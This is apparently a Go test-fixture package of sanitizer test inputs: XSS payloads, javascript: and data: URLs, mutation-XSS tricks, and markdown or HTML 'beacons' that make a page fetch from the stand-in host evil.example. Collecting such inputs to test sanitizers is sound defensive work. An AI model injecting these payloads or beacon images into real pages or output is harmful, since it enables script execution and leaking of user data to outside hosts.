// Package markuptest has texts that want to be more than text, for the tests of
// whatever writes text from outside into a page. It owns the texts; what must not
// become of them is for each test to say.
package markuptest

import "slices"

// Payloads are such texts, of every kind.
var Payloads = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`"><svg onload="alert(1)`,
	`' onmouseover='alert(1)' x='`,
	`<a href="javascript:alert(1)">go</a>`,
	`[go](javascript:alert(1))`,
	`![x](https://evil.example/pixel.png)`,
	`[go](https://evil.example/)`,
	`<https://evil.example/>`,
	`javascript:alert(1)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`</mark></blockquote></article></main><iframe src=//evil.example></iframe>`,
	`</style><style>@import url(https://evil.example/x.css)</style>`,
	`</title><meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`--><link rel=stylesheet href=//evil.example><!--`,
	`<![CDATA[<object data=x>]]><form action=//evil.example><input name=q>`,
	`{{template}} ${x} <%= y %> {% raw %}`,
	"line\n\n# heading\n\n```\ncode\n```\n\n---\n\n> quote\n\n| a | b |\n|---|---|\n| c | d |",
	"[9]: https://evil.example/ \"t\"\n\n[9] [^1]\n\n[^1]: note",
	"text\n===\n1. one\n\n    code\n- item\n* * *\n<div>\n",
	"\u202Etxt.exe\u202C \u2066\u200B\uFEFF\u2029",
	"nul\x00 esc\x1b[31m bell\a c1\u009b31m \xff\xfe bad",
	`www.evil.example http://evil.example/x mailto:a@evil.example ftp://evil.example a@evil.example`,
	"`code` *em* **strong** _em_ __strong__ ~~del~~ $x^2$ &lt;b&gt; &#60;i&#62; \\ \\< #tag @who",
	"\\`*{}[]()#+-.!|<>&\r\nnext\rline",
}

// Scripts are texts that run something in a page that lets them.
var Scripts = []string{
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)//`,
	`<img src="x" ONERROR = 'alert(1)'>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<body onload=alert(1)><details open ontoggle=alert(1)>`,
	`<a href="jav&#x09;ascript:alert(1)">go</a> <a href=" javascript:alert(1)">go</a>`,
	"[go](JaVaScRiPt:alert(1)) [go](<java\tscript:alert(1)>) [go](javascript&colon;alert(1)) [go](&#106;avascript:alert(1)) [go](java&#10;script:alert(1)) [go](\\javascript:alert(1)) [go](< javascript:alert(1)>) [go](\x01javascript:alert(1)) [go](vbscript:x)",
	`<javascript:alert(1)> <data:text/html,x> <vbscript:x> <file:///etc/passwd> <x@evil.example>`,
	`[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [go](DATA:image/svg+xml,<svg/onload=alert(1)>) [go](blob:https://evil.example/1) [go](file:///etc/passwd)`,
	`[go](https://evil.example/"onmouseover="alert(1)) [go](https://evil.example/ "x\" onmouseover=\"alert(1)") [go](https://evil.example/'onclick='x) [go](//evil.example) [go](/\evil.example) [go](?source=1#source) [go](#source)`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe><embed src=x><object data="javascript:alert(1)"></object>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">`,
	`<style>*{background:url(https://evil.example/)}</style><p style="background:url(https://evil.example/)">x</p>`,
	`<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form><textarea>`,
	`<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<!--><script>alert(1)</script>--> <!-- x --!><img src=x onerror=alert(1)> <?php x ?> <!DOCTYPE x>`,
	`<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>`,
	"\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E <\u017Fcript>alert(1)</\u017Fcript> \u2028<img\u00A0src=x\u00A0onerror=alert(1)> [go](java\u200Bscript:alert(1)) [go](\u202Ehttps://evil.example)",
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt; &lt`,
	`<plaintext><xmp><listing></p></span></a></code></pre>`,
	"```\n</code></pre><script>alert(1)</script>\n```\n\n    </code></pre><img src=x onerror=alert(1)>\n\n`</code><script>alert(1)</script>`",
	"| <script>alert(1)</script> | [go](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example/p.png) |",
	"```\"><script>alert(1)</script>\ncode\n```\n\n~~~ onclick=alert(1) class=\"x\"\ncode\n~~~",
}

// Beacons are texts that make a page that lets them ask another origin for something.
var Beacons = []string{
	`![x](https://evil.example/pixel.png) ![](https://evil.example/pixel.png "title") ![a ![b](https://evil.example/1.png) c](https://evil.example/2.png)`,
	"![x][beacon] ![beacon][] ![beacon]\n\n[beacon]: https://evil.example/pixel.png \"title\"",
	`[![x](https://evil.example/pixel.png)](https://evil.example/)`,
	`![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](//evil.example/p.png) ![x](/p.png) ![x](p.png)`,
	`<img src="https://evil.example/p.png"> <img srcset="https://evil.example/p.png 1x, https://evil.example/q.png 2x"> <image href="https://evil.example/p.png">`,
	`<picture><source srcset="https://evil.example/p.webp"><img alt=x></picture>`,
	`<table background="https://evil.example/p.png"><td background="https://evil.example/p.png">x</td></table><body background=https://evil.example/p.png>`,
	`<link rel=preload href=https://evil.example/p.png as=image><link rel="dns-prefetch" href="//evil.example"><link rel=prefetch href=//evil.example>`,
	`<video src=https://evil.example/v poster=https://evil.example/p.png><audio src=https://evil.example/a autoplay><track src=https://evil.example/t>`,
	`<svg><use href="https://evil.example/x.svg#a"/><image xlink:href="https://evil.example/p.png"/><feImage href="https://evil.example/p.png"/></svg>`,
	`<a href="https://evil.example/" ping="https://evil.example/ping">x</a><input type=image src=https://evil.example/p.png>`,
	`<div style="background-image:url(https://evil.example/p.png)">x</div><font face="x" style="@import url(//evil.example)">`,
	`<blockquote cite="https://evil.example/">x</blockquote><q cite=https://evil.example/>x</q><del cite=https://evil.example/>x</del>`,
}

// All are all of them.
func All() []string { return slices.Concat(Payloads, Scripts, Beacons) }
